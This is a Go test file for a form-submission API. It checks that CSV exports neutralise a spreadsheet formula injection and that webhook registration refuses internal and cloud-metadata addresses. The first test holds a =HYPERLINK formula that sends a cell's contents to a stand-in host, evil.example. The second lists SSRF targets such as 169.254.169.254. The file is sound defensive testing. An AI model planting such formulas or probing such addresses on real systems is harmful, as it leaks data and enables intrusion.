package main

import (
	"context"
	"net/http"
	"strings"
	"testing"

	"go.mongodb.org/mongo-driver/v2/bson"
)

// TestExportFormulaInjection: a collector's free text that begins like a
// spreadsheet formula reaches a manager's CSV with a leading quote, and
// as typed only with raw_text=true, which the audit log records.
func TestExportFormulaInjection(t *testing.T) {
	const unit = "00328"
	col := newUser(t, shared, "collector", unit)
	data := householdData(t)
	data["address"] = `=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")`
	e := envelope(data)
	e["unit"] = unit
	if r := col.do("POST", "/api/v1/forms/household/submissions", e); r.status != http.StatusCreated {
		t.Fatalf("submit: %d %s", r.status, r.body)
	}
	mgr := newUser(t, shared, "manager", unit)
	for _, tt := range []struct{ query, want string }{
		{"", `'=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")`},
		{"&raw_text=true", `=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")`},
	} {
		r := mgr.raw("GET", "/api/v1/forms/household/export?format=csv&unit="+unit+tt.query, nil)
		if r.status != http.StatusOK {
			t.Fatalf("export%s: %d %s", tt.query, r.status, r.body)
		}
		rows := parseCSV(t, r.body)
		if len(rows) != 1 || rows[0]["address"] != tt.want {
			t.Errorf("export%s: address %q, want %q", tt.query, rows[0]["address"], tt.want)
		}
	}
	entries := exportEntries(t, dbOf(t, shared), whoami(t, mgr))
	var raw []any
	for _, en := range entries {
		raw = append(raw, details(en)["raw_text"])
	}
	if len(raw) != 2 || raw[0] != false || raw[1] != true {
		t.Errorf("audit raw_text of the two exports: %v, want [false true]", raw)
	}
}

// TestWebhookRegistrationRefusesInternal: the addresses a probe reached
// are refused with 422 naming /url, even on a server whose operator lets
// webhooks reach 127.0.0.1 over http; the secret is stored sealed.
func TestWebhookRegistrationRefusesInternal(t *testing.T) {
	mgr := newUser(t, shared, "manager", "00004")
	for _, u := range []string{"http://169.254.169.254/latest/meta-data/", "http://10.0.0.1/", "http://[::1]/", "http://0.0.0.0/",
		"http://2130706433/", "http://localhost/", "http://[fd00::1]/", "http://metadata.google.internal/", "http://127.0.0.2/",
		"https://[::ffff:127.0.0.1]/"} {
		r := mgr.do("POST", "/api/v1/webhooks", map[string]any{"url": u, "events": []string{"create"}})
		if r.status != http.StatusUnprocessableEntity || !r.errorBody(t).hasField("/url", "not_allowed") {
			t.Errorf("%s: %d %s, want 422 not_allowed on /url", u, r.status, r.body)
		}
	}
	r := mgr.do("POST", "/api/v1/webhooks", map[string]any{"url": "http://127.0.0.1:9/hook", "events": []string{"create"}})
	if r.status != http.StatusCreated {
		t.Fatalf("the operator's allowed host: %d %s", r.status, r.body)
	}
	var hook struct{ ID, Secret string }
	r.json(t, &hook)
	var doc struct {
		Secret string `bson:"secret"`
	}
	if err := dbOf(t, shared).Database().Collection("webhooks").FindOne(context.Background(), bson.M{"_id": hook.ID}).Decode(&doc); err != nil {
		t.Fatal(err)
	}
	if hook.Secret == "" || strings.Contains(doc.Secret, hook.Secret) || !strings.HasPrefix(doc.Secret, "sealed:") {
		t.Errorf("stored secret %q is not sealed", doc.Secret)
	}
}
